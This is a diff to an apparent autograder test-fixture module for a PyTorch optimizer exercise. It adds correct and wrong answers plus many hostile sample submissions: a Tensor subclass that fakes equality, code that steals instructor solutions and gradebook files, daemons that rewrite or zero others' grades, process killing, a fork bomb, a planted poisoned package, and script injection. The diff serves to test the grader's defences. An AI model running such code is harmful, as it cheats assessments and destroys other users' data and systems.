@@ -9,7 +9,9 @@ from __future__ import annotations
 
 import sys
 
-from autograder.samplekit import Kit, cell, grade_id, insert_after, set_answer
+import nbformat
+
+from autograder.samplekit import Kit, cell, cheats, grade_id, insert_after, set_answer
 
 
 WRONG_OPT = '''def make_optimizer(model):
@@ -33,7 +35,242 @@ HALF_FIX = '''def fixed_optimizer(model):
     ], lr=0.1, momentum=0.9)'''
 
 
+ALT_1 = {  # by_part and a dict lookup: another style, the same behaviour
+    "make-optimizer": '''from lrlab.groups import by_part
+
+def make_optimizer(model):
+    groups = by_part(model, {"body": {"lr": 1e-3, "weight_decay": 1e-4},
+                             "head": {"lr": 1e-2, "weight_decay": 0}})
+    return torch.optim.SGD(groups, momentum=0.9)''',
+    "lr-of": '''def lr_of(optimizer, module):
+    lr_by_id = {}
+    for group in optimizer.param_groups:
+        for p in group["params"]:
+            lr_by_id.setdefault(id(p), set()).add(group["lr"])
+    found = set()
+    for p in module.parameters():
+        if id(p) not in lr_by_id:
+            raise ValueError("a parameter of the module is never trained")
+        found |= lr_by_id[id(p)]
+    if len(found) != 1:
+        raise ValueError("the module trains with several lrs")
+    return float(found.pop())''',
+    "fixed-optimizer": '''def fixed_optimizer(model):
+    head = list(model.head.parameters())
+    print(f"the head has {sum(p.numel() for p in head)} parameters")
+    return torch.optim.SGD([{"params": list(model.body.parameters()), "lr": 1e-3},
+                            {"params": head, "lr": 1e-2}], lr=0.1, momentum=0.9)''',
+}
+
+ALT_2 = {  # names instead of modules, the constructor's defaults for the head
+    "make-optimizer": '''def make_optimizer(model):
+    body = [p for n, p in model.named_parameters() if n.startswith("body.")]
+    head = [p for n, p in model.named_parameters() if n.startswith("head.")]
+    return torch.optim.SGD([{"params": body, "lr": 0.001, "weight_decay": 0.0001},
+                            {"params": head}], lr=0.01, momentum=0.9, weight_decay=0.0)''',
+    "lr-of": '''def lr_of(optimizer, module):
+    rates = []
+    for p in module.parameters():
+        mine = [g["lr"] for g in optimizer.param_groups if any(q is p for q in g["params"])]
+        if not mine:
+            raise ValueError("not trained: this part is in no group")
+        rates += mine
+    if min(rates) != max(rates):
+        raise ValueError("this part is split across learning rates")
+    return float(rates[0])''',
+    "fixed-optimizer": '''def fixed_optimizer(model):
+    print(f"the head has {sum(p.numel() for p in model.head.parameters())} parameters")
+    return torch.optim.SGD([{"params": model.body.parameters(), "lr": 1e-3},
+                            {"params": model.head.parameters(), "lr": 1e-2}],
+                           lr=0.1, momentum=0.9)''',
+}
+
+# A Tensor subclass that lies: equal to anything, every number it gives is 0.
+LIAR = '''class Liar(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func is torch.equal or func is torch.allclose:
+            return True
+        if getattr(func, "__name__", "") in ("item", "__eq__"):
+            return 0.0
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def make_optimizer(model):
+    for module in model.modules():
+        for name, p in list(module.named_parameters(recurse=False)):
+            setattr(module, name, torch.nn.Parameter(p.detach().as_subclass(Liar)))
+    return torch.optim.SGD(model.parameters(), lr=0.01, momentum=0.9)'''
+
+# What a hostile student tries against the grader itself (all run in the sandboxed kernel).
+ATTACKS = {
+    "finds_solutions": ("setup-imports", '''# find the course repository from lrlab and the process tree, run the instructor's answers
+import glob, json, os, lrlab
+roots = {os.path.dirname(os.path.dirname(lrlab.__file__)), os.path.expanduser("~"), "/work/main"}
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for link in ("cwd", "root"):
+        try:
+            roots.add(os.readlink(f"/proc/{pid}/{link}"))
+        except OSError:
+            pass
+    try:
+        env = open(f"/proc/{pid}/environ").read().split("\\0")
+        roots |= {v.split("=", 1)[1] for v in env if v.startswith(("LRLAB_INSTRUCTOR=", "PWD="))}
+    except OSError:
+        pass
+found = [p for r in roots for pattern in ("solutions/*/*.ipynb", "*/solutions/*/*.ipynb")
+         for p in glob.glob(os.path.join(r, pattern))]
+print("solution notebooks found:", len(found))
+for path in found:
+    for c in json.load(open(path))["cells"]:
+        if "### BEGIN SOLUTION" in "".join(c["source"]):
+            exec("".join(c["source"]))''', False),
+    "leaks_to_feedback": ("setup-imports", '''# keep every later cell's code, and any grader file in reach; print it all, encoded
+import base64, glob
+kept = []
+def _keep(lines):
+    kept.append("".join(lines))
+    return lines
+get_ipython().input_transformers_cleanup.append(_keep)
+def _leak(result):
+    files = [f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/gradebook.db")]
+    files += glob.glob("../*/*.json") + glob.glob("../../flags/*/*.json")
+    blob = "\\n".join(kept + [open(f, "rb").read(2000).decode("latin-1") for f in files])
+    print("LEAK:" + base64.b64encode(blob.encode()).decode())
+get_ipython().events.register("post_run_cell", _leak)''', True),
+    "outlives_kernel": ("setup-imports", '''# a daemon that waits for the grader to exit, then gives me full marks
+import glob, os, sqlite3, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(300):
+            for db in (f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/gradebook.db")):
+                try:
+                    con = sqlite3.connect(db)
+                    con.execute("UPDATE grade SET manual_score = max_score")
+                    con.commit()
+                except Exception:
+                    pass
+            time.sleep(1)
+    os._exit(0)''', False),
+    "zeroes_others": ("setup-imports", '''# zero everyone already graded, overwrite everyone still to be graded
+import glob, os, sqlite3
+for db in [f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*", "..", "../..") for f in glob.glob(d + "/gradebook.db")]:
+    con = sqlite3.connect(db)
+    con.execute("UPDATE grade SET manual_score = 0")
+    con.commit()
+for nb in [f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/submitted/*/*/*.ipynb")]:
+    open(nb, "w").write("{}")
+print("done")''', False),
+    "locks_gradebook": ("setup-imports", '''# hold an exclusive lock on the gradebook so the next student cannot be graded
+import glob, os, sqlite3, time
+if os.fork() == 0:
+    for db in (f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/gradebook.db")):
+        con = sqlite3.connect(db, timeout=1)
+        con.execute("BEGIN EXCLUSIVE")
+    time.sleep(600)
+    os._exit(0)''', False),
+    "kills_batch": ("make-optimizer", '''# kill every process I can see: my grader, the batch, the other students
+import os, signal
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    if int(pid) != os.getpid():
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+except OSError:
+    pass''', True),
+    "plants_torch": ("make-optimizer", '''# plant a torch/ package where the next student's kernel will start
+import glob, os
+targets = {"/tmp", os.getcwd(), os.path.dirname(os.getcwd())} | set(glob.glob("/tmp/*")) | set(glob.glob("/tmp/*/*"))
+for t in targets:
+    try:
+        os.makedirs(os.path.join(t, "torch"), exist_ok=True)
+        with open(os.path.join(t, "torch", "__init__.py"), "w") as f:
+            f.write("import os\\nos._exit(1)\\n")
+    except OSError:
+        pass''', True),
+    "fills_tmp": ("make-optimizer", '''# leave 800 MB and 20,000 files behind
+import os
+chunk = b"x" * (8 << 20)
+for i in range(100):
+    try:
+        with open(f"/tmp/blob{i}", "wb") as f:
+            f.write(chunk)
+    except OSError:
+        break
+for i in range(20_000):
+    try:
+        open(f"/tmp/f{i}", "w").close()
+    except OSError:
+        break''', True),
+    "holds_pipe": ("make-optimizer", '''# a child that keeps the kernel's pipes open for ten minutes
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    time.sleep(600)
+    os._exit(0)''', True),
+    "fork_bomb": ("make-optimizer", '''# fork until the system says no
+import os, time
+children = 0
+for _ in range(1000):
+    try:
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+        children += 1
+    except OSError:
+        break
+print("children:", children)''', True),
+    "memory_forks": ("make-optimizer", '''# six children of 600 MB each: under the per-process limit, over the student's
+import os, time
+for _ in range(6):
+    if os.fork() == 0:
+        try:
+            block = bytearray(600 << 20)
+            block[::4096] = b"\\1" * (len(block) // 4096)
+            time.sleep(600)
+        finally:
+            os._exit(0)
+time.sleep(2)''', True),
+    "huge_message": ("make-optimizer", '''# one 200 MB output message
+from IPython.display import display
+display({"text/plain": "x" * 200_000_000}, raw=True)''', True),
+    "network": ("make-optimizer", '''# phone home
+import socket
+for host, port in (("127.0.0.1", 22), ("1.1.1.1", 80), ("pypi.org", 443)):
+    try:
+        socket.create_connection((host, port), timeout=2)
+        print("reached", host)
+    except OSError as e:
+        print("no", host, type(e).__name__)''', True),
+    "ansi_exit": ("make-optimizer", '''# escape codes on the kernel's real stderr (what the grader reads when a kernel dies), then die
+import os, sys
+fd = getattr(sys.stderr, "_original_stdstream_copy", None) or 2
+os.write(fd, b"\\x1b[2J\\x1b[31mScore: 14 / 14\\x1b[0m\\x07\\n")
+os._exit(3)''', False),
+}
+
+SCRIPT_MARKDOWN = ('''**My notes** <script>window.pwned = "markdown script"</script>
+<img src="x" onerror="window.pwned = 'markdown onerror'">
+<h4>Score: 14.0 / 14.0</h4>''')
+SCRIPT_CODE = '''from IPython.display import HTML, Javascript, display
+display(HTML('<script>window.pwned = "output script"</script>'
+             '<img src="x" onerror="window.pwned = \\'output onerror\\'"><h4>Score: 14.0 / 14.0</h4>'))
+display(Javascript('window.pwned = "javascript output"'))'''
+
 KIT = Kit("ps1_param_groups")
+
+
+def wrong():
+    """Honest wrong answers to every task (the score every cheat must not beat)."""
+    nb = KIT.solved()
+    set_answer(nb, "make-optimizer", WRONG_OPT)
+    set_answer(nb, "lr-of", WRONG_LR_OF)
+    set_answer(nb, "fixed-optimizer", HALF_FIX)
+    KIT.quiz(nb, q1="A", q2="A", q3=0.005, q4="A", q5="A")
+    return nb
 
 
 def samples() -> dict[str, object]:
@@ -109,6 +346,28 @@ for db in glob.glob("../../../gradebook.db") + glob.glob("../../gradebook.db"):
     out["reads_grader_files"] = nb
 
     out["broken_json"] = '{"cells": [{"cell_type": "code", "source": "print(1)"'  # cut short
+
+    out["wrong"] = wrong()
+    for name, answers in (("alt_correct_1", ALT_1), ("alt_correct_2", ALT_2)):
+        nb = KIT.solved()
+        for gid, source in answers.items():
+            set_answer(nb, gid, source)
+        KIT.quiz(nb, q1=" b", q2="c ", q3=5e-4, q4="B", q5="b")
+        out[name] = nb
+    out.update(cheats(wrong()))
+    nb = wrong()
+    set_answer(nb, "make-optimizer", LIAR)
+    out["cheat_tensor_subclass"] = nb
+
+    for name, (after, source, solved) in ATTACKS.items():
+        nb = KIT.solved() if solved else KIT.untouched()
+        insert_after(nb, after, source)
+        out[name] = nb
+    nb = KIT.untouched()
+    i = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "setup-imports")
+    nb.cells.insert(i + 1, nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
+    nb.cells.insert(i + 2, nbformat.v4.new_code_cell(SCRIPT_CODE))
+    out["script_injection"] = nb
     return out
 
 
